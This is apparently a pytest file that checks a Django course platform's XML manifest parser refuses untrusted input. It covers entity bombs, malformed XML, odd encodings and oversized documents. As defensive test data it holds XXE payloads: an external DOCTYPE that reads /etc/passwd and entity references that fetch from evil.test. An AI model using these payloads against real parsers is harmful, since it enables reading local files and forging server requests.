"""S03: XML of strangers is read without entities and within limits; refusals say where."""

import tracemalloc

import pytest
from django.utils.translation import override

from courses.packages import xml
from courses.packages.errors import PackageRefused
from tests.packages.clock import within_a_second
from tests.packages.reading import speaking


def refused(body: bytes) -> PackageRefused:
    with pytest.raises(PackageRefused) as caught:
        xml.parse(body, document="imsmanifest.xml")
    return speaking(caught.value)


BOMB = b"""<!DOCTYPE m [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]><m>&b;</m>"""


@pytest.mark.parametrize(
    "body",
    [
        BOMB,
        b'<!DOCTYPE m SYSTEM "file:///etc/passwd"><m/>',
        b'<!DOCTYPE m [<!ENTITY x SYSTEM "http://evil.test/x">]><m>&x;</m>',
        b"<!DOCTYPE m [<!ENTITY % x SYSTEM 'http://evil.test/x.dtd'> %x;]><m/>",
        b"<!DOCTYPE m><m/>",
    ],
)
def test_document_types_and_entities_are_refused(body):
    assert "DOCTYPE" in str(refused(body).mend)


@pytest.mark.parametrize(
    ("body", "line", "column"),
    [
        (b"", 1, 1),
        (b"   ", 1, 4),
        (b"<m>", 1, 4),
        (b"<m>\n  </n>", 2, 5),
        (b"<m/><n/>", 1, 5),
        (b"&x;", 1, 1),
        (b"\x00", 1, 1),
        (b"PK\x03\x04", 1, 3),
        (b"<a b=1/>", 1, 6),
    ],
)
def test_broken_xml_is_refused_with_its_place(body, line, column):
    with override("en"):
        assert str(refused(body).message) == f"This file is not well-formed XML: line {line}, column {column}."


@pytest.mark.parametrize("name", ["nonsense", "utf-7", "gbk", "rot13", "hex", "base64", "idna", "punycode", "utf-32"])
def test_encodings_that_cannot_be_read_are_refused(name):
    refused(f'<?xml version="1.0" encoding="{name}"?><m t="ā"/>'.encode())


@pytest.mark.parametrize("name", ["utf-8", "utf-8-sig", "utf-16", "windows-1257", "iso-8859-13"])
def test_usual_encodings_are_read(name):
    declared = name.removesuffix("-sig")

    root = xml.parse(f'<?xml version="1.0" encoding="{declared}"?><m>ā</m>'.encode(name), document="x")

    assert root.text == "ā"


def test_bytes_that_are_not_what_they_say_are_refused():
    refused('<?xml version="1.0" encoding="utf-8"?><m>ā</m>'.encode("windows-1257"))


LARGE = {
    "bytes": b"<m>" + b" " * xml.MAX_BYTES + b"</m>",
    "elements": b"<m>" + b"<a/>" * 1_300_000 + b"</m>",
    "elements just within": b"<m>" + b"<a/>" * (xml.MAX_ELEMENTS - 1) + b"</m>",
    "depth": b"<a>" * 100_000,
    "attributes": b"<m " + b" ".join(b'a%d=""' % number for number in range(400_000)) + b"/>",
    "attributes just within": b"<m " + b" ".join(b'a%d=""' % n for n in range(xml.MAX_ATTRIBUTES)) + b"/>",
    "namespaces": b"<m " + b" ".join(b'xmlns:a%d="u"' % number for number in range(240_000)) + b"/>",
    "comments": b"<m>" + b"<!---->" * 740_000 + b"</m>",
    "instructions": b"<m>" + b"<?a?>" * 1_000_000 + b"</m>",
    "text": b"<m>" + b"\n&lt;" * 1_000_000 + b"</m>",
    "one long name": b"<" + b"a" * 5_000_000 + b"/>",
}


@pytest.mark.parametrize("body", LARGE.values(), ids=LARGE)
def test_five_mebibytes_of_anything_take_less_than_a_second(body):
    with within_a_second():
        try:
            xml.parse(body, document="x")
        except PackageRefused as problem:
            speaking(problem)


@pytest.mark.parametrize("body", LARGE.values(), ids=LARGE)
def test_five_mebibytes_of_anything_take_less_than_200_megabytes(body):
    tracemalloc.start()
    try:
        xml.parse(body, document="x")
    except PackageRefused as problem:
        speaking(problem)
    _now, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()

    assert peak < 200_000_000


def test_depth_and_number_of_elements_are_limited():
    deep = xml.MAX_DEPTH
    xml.parse(b"<a>" * deep + b"</a>" * deep, document="x")

    refused(b"<a>" * (deep + 1) + b"</a>" * (deep + 1))
    refused(b"<m>" + b"<a/>" * xml.MAX_ELEMENTS + b"</m>")


def test_an_element_tells_where_it_stands():
    root = xml.parse(b"<m><a><b/><c/><b><d/></b></a></m>", document="imsmanifest.xml")
    first, other, second = root.children[0].children

    assert first.where() == "imsmanifest.xml: a/b[1]"
    assert other.where("href") == "imsmanifest.xml: a/c@href"
    assert second.children[0].where() == "imsmanifest.xml: a/b[2]/d"
    assert root.where() == "imsmanifest.xml: m"
    assert root.where("identifier") == "imsmanifest.xml: @identifier"
